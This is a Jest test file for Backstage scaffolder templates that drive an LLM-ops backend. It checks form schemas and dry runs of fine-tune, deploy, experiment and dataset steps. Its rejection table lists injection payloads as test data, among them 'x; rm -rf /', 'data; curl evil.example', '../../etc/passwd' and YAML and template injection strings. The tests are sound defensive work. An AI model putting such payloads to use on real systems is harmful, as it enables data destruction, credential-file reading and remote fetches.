import fs from 'node:fs';
import path from 'node:path';
import yaml from 'yaml';
import { Validator, type Schema } from 'jsonschema';
import { createTemplateRenderer } from 'nunjitsu';
import { templateEntityV1beta3Validator } from '@backstage/plugin-scaffolder-common';
import type { JsonObject, JsonValue } from '@backstage/types';
import {
  actionContext,
  createTestDatabases,
  entityFor,
  seedModel,
  seedPipeline,
  startLlmOps,
  type LlmOpsTestBackend,
} from './__testUtils__/llmOpsBackend';
import { createLlmOpsActions } from './actions';
import {
  DATASET_VERSION,
  DIGEST,
  DNS_SUBDOMAIN,
  K8S_NAME,
  MODEL_ALIAS,
  MODEL_VERSION,
  REPO_PATH,
  REVISION,
  URI,
} from './lib/validation';

jest.setTimeout(60_000);

/*
 * The golden-path templates in /templates, checked the way the scaffolder uses them: the entity
 * is a valid Template, the form values pass the parameter schemas, and a dry run renders each
 * step's input as the scaffolder does (nunjitsu, `${{ }}`), checks it against the action's input
 * schema and runs the action in dry-run mode against the real llm-ops backend, writing nothing.
 */

const templatesDir = path.resolve(__dirname, '../../../templates');

type TemplateDoc = {
  metadata: { name: string };
  spec: {
    parameters: Schema[];
    steps: Array<{
      id: string;
      action: string;
      input: JsonObject;
      if?: string;
    }>;
    output: {
      links?: Array<{
        title: string;
        url?: string;
        entityRef?: string;
        if?: string;
      }>;
      text?: Array<{ title: string; content: string; if?: string }>;
    };
  };
};

function loadTemplates(): Record<string, TemplateDoc> {
  const location = yaml.parse(
    fs.readFileSync(path.join(templatesDir, 'all.yaml'), 'utf8'),
  );
  return Object.fromEntries(
    (location.spec.targets as string[]).map(target => {
      const doc = yaml.parse(
        fs.readFileSync(path.join(templatesDir, target), 'utf8'),
      ) as TemplateDoc;
      return [doc.metadata.name, doc];
    }),
  );
}

const templates = loadTemplates();

/** Form errors for `values`, page by page, as the scaffolder backend validates them. */
function formErrors(template: TemplateDoc, values: JsonObject): string[] {
  const validator = new Validator();
  return template.spec.parameters.flatMap(page =>
    validator
      .validate(values, page)
      .errors.map(e => `${e.property} ${e.message}`),
  );
}

const renderer = createTemplateRenderer({});

/** Renders every string in `input` like the scaffolder's workflow runner. */
function render(input: JsonValue, context: JsonObject): any {
  return JSON.parse(JSON.stringify(input), (_key, value) => {
    if (typeof value !== 'string') return value;
    try {
      return renderer.renderValue(value, context as any);
    } catch {
      return value;
    }
  });
}

/** The scaffolder's isTruthy. */
const truthy = (value: unknown) =>
  Array.isArray(value) ? value.length > 0 : !!value;

/** The scaffolder's filterConditionalItems: an item whose rendered `if` is falsy is dropped. */
const conditional = (items: any[] = []) =>
  items.flatMap(item => {
    if ('if' in item && !truthy(item.if)) return [];
    const { if: _if, ...rest } = item;
    return [rest];
  });

const validValues: Record<string, JsonObject> = {
  'llm-ops-fine-tune-llm': {
    dataset: 'dataset:default/support-tickets',
    baseModel: 'model:default/llama-3-8b',
    pipeline: 'pipeline:default/llm-finetune',
    experiment: 'support-bot-lora-r16',
    description: 'LoRA on the 2026 tickets',
    owner: 'group:default/ml-platform',
    learningRate: 0.0002,
    epochs: 3,
    batchSize: 8,
    loraRank: 16,
    maxSeqLength: 2048,
    waitForCompletion: true,
    timeoutMinutes: 120,
  },
  'llm-ops-deploy-model': {
    model: 'model:default/support-bot',
    pick: 'alias',
    alias: 'champion',
    endpoint: 'support-bot',
    runtime: 'builtin',
    namespace: 'ml-serving',
    minReplicas: 1,
    maxReplicas: 2,
    owner: 'group:default/ml-platform',
    canary: false,
  },
  'llm-ops-new-experiment': {
    name: 'support-bot-baseline',
    owner: 'group:default/ml-platform',
    project: 'support-bot',
  },
  'llm-ops-register-dataset': {
    name: 'support-tickets-2026',
    owner: 'group:default/ml-platform',
    repoUrl: 'github.com?owner=acme&repo=datasets',
    path: 'data/support-tickets',
    revision: 'main',
    uri: 's3://datasets/support-tickets/v3',
    digest: 'md5:3f2a9c1e8b7d6a5f4e3d2c1b0a998877.dir',
    sizeBytes: 734003200,
    fileCount: 12,
    format: 'parquet',
  },
};

describe('the golden-path templates', () => {
  it('lists the four templates in all.yaml', () => {
    expect(Object.keys(templates).sort()).toEqual([
      'llm-ops-deploy-model',
      'llm-ops-fine-tune-llm',
      'llm-ops-new-experiment',
      'llm-ops-register-dataset',
    ]);
  });

  it.each(Object.keys(templates))(
    '%s is a valid Template entity',
    async name => {
      await expect(
        templateEntityV1beta3Validator.check(templates[name] as any),
      ).resolves.toBe(true);
    },
  );

  it.each(Object.keys(templates))('%s accepts its sample values', name => {
    expect(formErrors(templates[name], validValues[name])).toEqual([]);
  });

  it('pick the llm-ops catalog kinds with EntityPicker', () => {
    const fineTune = templates['llm-ops-fine-tune-llm'].spec.parameters[0]
      .properties as any;
    expect(fineTune.dataset['ui:field']).toBe('EntityPicker');
    expect(fineTune.dataset['ui:options'].catalogFilter).toEqual({
      kind: 'Dataset',
    });
    expect(fineTune.baseModel['ui:options'].catalogFilter).toEqual({
      kind: 'Model',
    });
    const deploy = templates['llm-ops-deploy-model'].spec.parameters[0]
      .properties as any;
    expect(deploy.model['ui:field']).toBe('EntityPicker');
    expect(deploy.model['ui:options'].catalogFilter).toEqual({ kind: 'Model' });
  });

  it('use the same patterns as the actions check', () => {
    const actionPatterns = [
      K8S_NAME,
      DNS_SUBDOMAIN,
      REPO_PATH,
      REVISION,
      URI,
      DIGEST,
      DATASET_VERSION,
      MODEL_ALIAS,
      MODEL_VERSION,
    ].map(r => r.source.replace(/\\\//g, '/'));
    const patterns: string[] = [];
    const walk = (node: unknown) => {
      if (Array.isArray(node)) node.forEach(walk);
      else if (node && typeof node === 'object') {
        for (const [key, value] of Object.entries(node)) {
          if (key === 'pattern' && typeof value === 'string')
            patterns.push(value);
          else walk(value);
        }
      }
    };
    Object.values(templates).forEach(t => walk(t.spec.parameters));
    expect(patterns.length).toBeGreaterThan(10);
    for (const pattern of patterns) expect(actionPatterns).toContain(pattern);
  });

  it.each([
    ['llm-ops-new-experiment', { name: 'x; rm -rf /' }],
    ['llm-ops-new-experiment', { name: 'a\nkind: Secret' }],
    ['llm-ops-new-experiment', { name: 'exp-{{ secrets.token }}' }],
    ['llm-ops-deploy-model', { endpoint: 'x; rm -rf /' }],
    ['llm-ops-deploy-model', { endpoint: 'a\nkind: Secret' }],
    ['llm-ops-deploy-model', { namespace: '{{ x }}' }],
    ['llm-ops-deploy-model', { minReplicas: -1 }],
    ['llm-ops-deploy-model', { maxReplicas: 101 }],
    ['llm-ops-deploy-model', { canary: true, canaryPercent: 100 }],
    ['llm-ops-deploy-model', { canary: true, canaryPercent: 0 }],
    ['llm-ops-deploy-model', { alias: 'a; b' }],
    ['llm-ops-deploy-model', { pick: 'version', version: '0' }],
    ['llm-ops-fine-tune-llm', { experiment: 'x; rm -rf /' }],
    ['llm-ops-fine-tune-llm', { learningRate: 1 }],
    ['llm-ops-fine-tune-llm', { learningRate: 0 }],
    ['llm-ops-fine-tune-llm', { epochs: 0 }],
    ['llm-ops-fine-tune-llm', { epochs: 2.5 }],
    ['llm-ops-fine-tune-llm', { batchSize: 1000 }],
    ['llm-ops-fine-tune-llm', { loraRank: 5 }],
    ['llm-ops-fine-tune-llm', { timeoutMinutes: 0 }],
    ['llm-ops-register-dataset', { name: 'a\nkind: Secret' }],
    ['llm-ops-register-dataset', { path: '../../etc/passwd' }],
    ['llm-ops-register-dataset', { path: 'data; curl evil.example' }],
    ['llm-ops-register-dataset', { revision: 'main..evil' }],
    ['llm-ops-register-dataset', { uri: 's3://bucket/a b' }],
    ['llm-ops-register-dataset', { uri: 's3://bucket/{{ x }}' }],
    ['llm-ops-register-dataset', { sizeBytes: -1 }],
  ])('%s refuses %j in the form', (name, override) => {
    expect(
      formErrors(templates[name], { ...validValues[name], ...override }),
    ).not.toEqual([]);
  });
});

const databases = createTestDatabases();

describe.each(databases.eachSupportedId())(
  'dry runs of the golden-path templates against the llm-ops backend on %s',
  databaseId => {
    let llmOps: LlmOpsTestBackend;
    let actions: ReturnType<typeof createLlmOpsActions>;

    beforeAll(async () => {
      llmOps = await startLlmOps({ knex: await databases.init(databaseId) });
      actions = createLlmOpsActions(llmOps.actionOptions);
      const { api, entities } = llmOps;
      const dataset = await api.post('/v1/datasets', {
        name: 'support-tickets',
      });
      const base = await seedModel(api, 'llama-3-8b', 1);
      const bot = await seedModel(api, 'support-bot', 2);
      const pipeline = await seedPipeline(api, 'llm-finetune', {
        experiment: '',
        dataset: '',
        baseModel: '',
        learningRate: '0.0001',
        epochs: '1',
        batchSize: '4',
        loraRank: '8',
        maxSeqLength: '1024',
      });
      await api.post('/v1/endpoints', {
        name: 'support-bot-live',
        runtime: 'builtin',
        namespace: 'ml-serving',
        modelVersionId: bot.versions[0].id,
      });
      entities.push(
        entityFor('Dataset', dataset),
        entityFor('Model', base.model),
        entityFor('Model', bot.model),
        entityFor('Pipeline', pipeline),
      );
    });

    /** Everything the templates could write, to check that a dry run wrote none of it. */
    const snapshot = async () => ({
      experiments: await llmOps.api.names('experiments'),
      datasets: await llmOps.api.names('datasets'),
      datasetVersions: (
        await llmOps.api.get('/v1/datasets/support-tickets/versions')
      ).items.length,
      models: await llmOps.api.names('models'),
      endpoints: await llmOps.api.get('/v1/endpoints'),
      pipelineRuns: (await llmOps.api.get('/v1/pipelines/llm-finetune/runs'))
        .items.length,
    });

    /** Runs the template's steps in dry-run mode; returns the step outputs, logs and output. */
    async function dryRun(name: string, values: JsonObject) {
      const template = templates[name];
      expect(formErrors(template, values)).toEqual([]);
      const context: {
        parameters: JsonObject;
        steps: Record<string, JsonObject>;
      } = {
        parameters: values,
        steps: {},
      };
      const log: string[] = [];
      for (const step of template.spec.steps) {
        if (step.if !== undefined && !truthy(render(step.if, context as any)))
          continue;
        const action = actions.find(a => a.id === step.action);
        expect(action).toBeDefined();
        const input = render(step.input, context as any);
        // The scaffolder checks the rendered input against the action's schema first.
        const check = new Validator().validate(
          input,
          action!.schema!.input as Schema,
        );
        expect(
          check.errors.map(e => `${step.id}: ${e.property} ${e.message}`),
        ).toEqual([]);
        const { ctx, outputs, lines } = actionContext(input, {
          isDryRun: true,
          stepId: step.id,
        });
        await action!.handler(ctx);
        log.push(...lines);
        context.steps[step.id] = { output: outputs };
      }
      const output = render(template.spec.output as any, context as any);
      const shown = {
        links: conditional(output.links),
        text: conditional(output.text),
      };
      return { steps: context.steps, log, output: shown };
    }

    it('Fine-tune an LLM: would create the experiment and submit the run linked to it', async () => {
      const before = await snapshot();
      const { steps, log, output } = await dryRun(
        'llm-ops-fine-tune-llm',
        validValues['llm-ops-fine-tune-llm'],
      );
      expect(log).toEqual([
        "info: Dry run: would create experiment 'support-bot-lora-r16' owned by group:default/ml-platform with 8 tag(s)",
        "info: Dry run: would submit a run of pipeline 'llm-finetune' with the parameter(s) experiment, learningRate, epochs, batchSize, loraRank, maxSeqLength, dataset, baseModel and wait up to 7200s for it",
      ]);
      expect(steps.train.output).toMatchObject({
        runId: 'dry-run',
        pipelineName: 'llm-finetune',
        entityRef: 'pipeline:default/llm-finetune',
      });
      expect(output.links).toEqual([
        {
          title: 'Experiment in the catalog',
          icon: 'catalog',
          entityRef: 'experiment:default/support-bot-lora-r16',
        },
        {
          title: 'Fine-tuning pipeline in the catalog',
          icon: 'catalog',
          entityRef: 'pipeline:default/llm-finetune',
        },
      ]);
      expect(output.text[0].content).toBe(
        'Run llm-finetune-dry-run of pipeline llm-finetune is Pending; it logs to experiment support-bot-lora-r16.',
      );
      expect(await snapshot()).toEqual(before);
    });

    it('Deploy a model: would create the endpoint serving the champion', async () => {
      const before = await snapshot();
      const { log, output } = await dryRun(
        'llm-ops-deploy-model',
        validValues['llm-ops-deploy-model'],
      );
      expect(log).toEqual([
        "info: Dry run: would create endpoint 'support-bot' on builtin in namespace ml-serving, then serve support-bot v1 100% (stable)",
      ]);
      expect(output.links).toEqual([
        {
          title: 'Endpoint in the catalog',
          icon: 'catalog',
          entityRef: 'endpoint:default/support-bot',
        },
      ]);
      expect(output.text.map((t: any) => t.content)).toEqual([
        'Endpoint support-bot serves support-bot version 1; its state is Unknown.',
      ]);
      expect(await snapshot()).toEqual(before);
    });

    it('Deploy a model: would start a canary of a version number on an existing endpoint', async () => {
      const before = await snapshot();
      const { log, output } = await dryRun('llm-ops-deploy-model', {
        ...validValues['llm-ops-deploy-model'],
        pick: 'version',
        alias: 'champion', // left in the form from the other choice; the step ignores it
        version: '2',
        endpoint: 'support-bot-live',
        canary: true,
        canaryPercent: 10,
      });
      expect(log).toEqual([
        "info: Dry run: would use the existing endpoint 'support-bot-live' on builtin, then serve support-bot v1 90% (stable), support-bot v2 10% (canary)",
      ]);
      expect(output.text.map((t: any) => t.title)).toEqual([
        'Traffic',
        'Canary',
      ]);
      expect(await snapshot()).toEqual(before);
    });

    it('New experiment: would create the experiment', async () => {
      const before = await snapshot();
      const { log, output } = await dryRun(
        'llm-ops-new-experiment',
        validValues['llm-ops-new-experiment'],
      );
      expect(log).toEqual([
        "info: Dry run: would create experiment 'support-bot-baseline' owned by group:default/ml-platform with 1 tag(s)",
      ]);
      expect(output.links).toEqual([
        {
          title: 'Experiment in the catalog',
          icon: 'catalog',
          entityRef: 'experiment:default/support-bot-baseline',
        },
      ]);
      expect(output.text).toEqual([]);
      expect(await snapshot()).toEqual(before);
    });

    it('Register a dataset: would create the dataset with its DVC-tracked version', async () => {
      const before = await snapshot();
      const { log, output } = await dryRun(
        'llm-ops-register-dataset',
        validValues['llm-ops-register-dataset'],
      );
      expect(log).toEqual([
        "info: Dry run: would create dataset 'support-tickets-2026' with a version (next number), at s3://datasets/support-tickets/v3 from https://github.com/acme/datasets/data/support-tickets@main",
      ]);
      expect(output.links).toEqual([
        {
          title: 'Dataset in the catalog',
          icon: 'catalog',
          entityRef: 'dataset:default/support-tickets-2026',
        },
      ]);
      expect(await snapshot()).toEqual(before);
    });

    it('a dry run refuses an injected name that slipped past the form, writing nothing', async () => {
      const before = await snapshot();
      const template = templates['llm-ops-deploy-model'];
      const input = render(template.spec.steps[0].input, {
        parameters: {
          ...validValues['llm-ops-deploy-model'],
          endpoint: 'x\nkind: Secret',
        },
        steps: {},
      });
      const action = actions.find(a => a.id === 'llm-ops:endpoint:deploy')!;
      const { ctx } = actionContext(input, { isDryRun: true });
      await expect(action.handler(ctx)).rejects.toThrow(/line break/);
      expect(await snapshot()).toEqual(before);
    });
  },
);
